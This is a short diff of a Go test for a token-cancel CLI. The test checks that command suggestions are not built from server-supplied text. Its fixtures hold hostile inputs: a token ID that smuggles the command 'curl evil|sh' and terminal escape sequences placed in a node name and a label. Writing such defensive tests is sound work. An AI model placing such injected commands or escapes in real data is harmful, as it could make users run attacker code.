@@ -202,7 +202,7 @@ func TestAnInterruptedCancelNamesItsTokens(t *testing.T) {
 // and the rest is printed as text.
 func TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText(t *testing.T) {
 	at := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC)
-	good := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
+	good := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending", Labels: map[string]string{"tier": "db\x1b[2J"}}
 	evil := api.TokenView{ID: "x; curl evil|sh #", Node: "db-1\x1b]0;pwn\x07", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
 	f := &fakeCaller{
 		list:   api.TokenListResult{Tokens: []api.TokenView{good, evil}},
